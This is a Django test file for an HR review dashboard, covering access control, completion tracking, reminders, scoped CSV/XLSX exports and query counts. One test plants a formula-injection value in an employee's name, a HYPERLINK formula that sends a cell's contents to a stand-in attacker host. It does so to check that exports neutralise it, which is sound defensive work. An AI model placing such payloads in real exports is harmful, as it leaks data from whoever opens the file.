"""The HR dashboard: only HR sees it; completion per phase and unit; overdue tasks and their one-click
reminder; exports that carry the exporter's reviews and no free text; the same queries at two sizes."""

import csv
import io

import pytest
from django.core import mail
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from notifications.models import Notification
from reviews.models import Review
from tests.cycles.factories import advance, walk
from tests.factories import PersonFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def released(org, cycle):
    return walk(org, cycle, "released")


def test_only_hr_sees_the_dashboard_and_the_exports(web, org, released):
    cycle_id = released.cycle_id
    for url in (reverse("reviews:dashboard", args=[cycle_id]),
                reverse("reviews:dashboard_export", args=[cycle_id, "csv"])):
        for reader in (org.hr_admin, org.hr_partner):
            assert web(reader).get(url).status_code == 200
        for other in (org.manager, org.skip, org.employee, org.outsider):
            assert web(other).get(url).status_code == 404
    assert web(org.hr_admin).get(reverse("reviews:dashboard_export", args=[cycle_id, "pdf"])).status_code == 404


def test_it_shows_completion_per_phase_and_unit(web, org, released):
    page = web(org.hr_admin).get(reverse("reviews:dashboard", args=[released.cycle_id])).content.decode()
    assert "<progress" in page
    assert "Manager reviews submitted" in page
    assert "Acme/Engineering/Platform" in page


def test_the_export_respects_the_exporters_scope_and_carries_no_free_text(web, org, released):
    sales_person = PersonFactory(unit=org.sales, manager=org.outsider, full_name="Sal Seller")
    Review.objects.create(cycle=released.cycle, person=sales_person, manager=org.outsider, unit=org.sales,
                          state=Review.State.RELEASED, preliminary_rating=2)
    admin_csv = web(org.hr_admin).get(reverse("reviews:dashboard_export", args=[released.cycle_id, "csv"]))
    assert admin_csv.content.startswith("\ufeff".encode())  # Excel reads the file as UTF-8
    rows = list(csv.DictReader(io.StringIO(admin_csv.content.decode("utf-8-sig"))))
    names = {row["Name"] for row in rows}
    assert {"Emil Employee", "Sal Seller"} <= names
    employee = next(row for row in rows if row["Name"] == "Emil Employee")
    assert employee["Final rating"] == "4" and employee["Preliminary rating"] == "3" and employee["Calibrated"] == "yes"
    assert employee["State"] == "Released" and employee["Skipped steps"] == ""
    body = admin_csv.content.decode("utf-8-sig")
    assert "calibrated" not in {v for row in rows for v in row.values() if v != "yes"}  # no calibration reason
    assert "Good work" not in body and "Solid" not in body
    # The HR partner of Engineering exports Engineering only.
    partner = web(org.hr_partner).get(reverse("reviews:dashboard_export", args=[released.cycle_id, "xlsx"]))
    sheet = load_workbook(io.BytesIO(partner.content)).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0][:3] == ["Person id", "Name", "Email"]
    assert sheet.freeze_panes == "A2"
    row = next(r for r in values[1:] if r[1] == "Emil Employee")
    assert row[0] == org.employee.pk and row[10] == 4  # numbers stay numbers
    names = {row[1] for row in values[1:]}
    assert "Emil Employee" in names and "Sal Seller" not in names


def test_the_export_speaks_the_readers_language_and_runs_no_formula(web, org, released):
    org.employee.full_name = '=HYPERLINK("https://evil.example/?"&B3,"click")'
    org.employee.save(update_fields=["full_name"])
    client = web(org.hr_admin)
    client.cookies["django_language"] = "ru"
    body = client.get(reverse("reviews:dashboard_export", args=[released.cycle_id, "csv"])).content.decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(body)))
    assert "Руководитель" in header and "Manager" not in header, header
    assert "'=HYPERLINK(" in body and ',=HYPERLINK' not in body
    sheet = load_workbook(io.BytesIO(web(org.hr_admin).get(
        reverse("reviews:dashboard_export", args=[released.cycle_id, "xlsx"])).content)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert any(str(c.value).startswith("=HYPERLINK(") and c.data_type == "s" for c in cells)  # text, not a formula


def test_overdue_tasks_get_a_one_click_reminder(web, org, cycle, django_capture_on_commit_callbacks):
    cycle.deadlines = {"self_review": "2000-01-31", "manager_review": "2000-02-28"}
    cycle.save(update_fields=["deadlines"])
    walk(org, cycle, "self_review")
    page = web(org.hr_admin).get(reverse("reviews:dashboard", args=[cycle.pk])).content.decode()
    assert "write the self-review" in page and "Emil Employee" in page
    review = Review.objects.get(cycle=cycle, person=org.employee)
    with django_capture_on_commit_callbacks(execute=True):
        response = web(org.hr_admin).post(reverse("reviews:dashboard_remind", args=[cycle.pk]),
                                          {"task": f"review:{review.pk}:write_self_review"})
    assert response.status_code == 302
    assert Notification.objects.filter(person=org.employee, key__startswith="hr-reminder:").count() == 1
    assert any(org.employee.email in m.to for m in mail.outbox)
    assert web(org.hr_admin).post(reverse("reviews:dashboard_remind", args=[cycle.pk]),
                                  {"task": "review:999999:write_self_review"}).status_code == 404
    assert web(org.manager).post(reverse("reviews:dashboard_remind", args=[cycle.pk])).status_code == 404
    assert web(org.hr_admin).get(reverse("reviews:dashboard_remind", args=[cycle.pk])).status_code == 405


def _count(client, url):
    with CaptureQueriesContext(connection) as queries:
        assert client.get(url).status_code == 200
    return len(queries)


def test_the_dashboard_runs_the_same_queries_at_two_sizes(web, org, cycle):
    cycle.deadlines = {"self_review": "2000-01-31"}
    cycle.save(update_fields=["deadlines"])
    advance(cycle, "launch", "open_self_review", by=org.hr_admin)
    client = web(org.hr_admin)
    url = reverse("reviews:dashboard", args=[cycle.pk])

    def grow(n):
        for _ in range(n):
            person = PersonFactory(unit=org.platform, manager=org.manager)
            Review.objects.create(cycle=cycle, person=person, manager=org.manager, unit=org.platform,
                                  state=Review.State.SELF_REVIEW)

    grow(3)
    small = _count(client, url)
    grow(30)
    large = _count(client, url)
    assert small == large, (small, large)


def test_work_left_when_the_phase_moved_on_is_overdue_as_it_is_late(web, org, cycle):
    # No deadline has passed; the self-review was not written when HR opened feedback: late, so overdue.
    cycle.deadlines = {"self_review": "2999-01-31", "feedback": "2999-02-28"}
    cycle.save(update_fields=["deadlines"])
    walk(org, cycle, "self_review")
    client = web(org.hr_admin)
    page = client.get(reverse("reviews:dashboard", args=[cycle.pk])).content.decode()
    assert "write the self-review" not in page  # in time: neither late nor overdue
    advance(cycle, "open_feedback", by=org.hr_admin)
    page = client.get(reverse("reviews:dashboard", args=[cycle.pk])).content.decode()
    assert "late" in page and "write the self-review" in page and "Emil Employee" in page
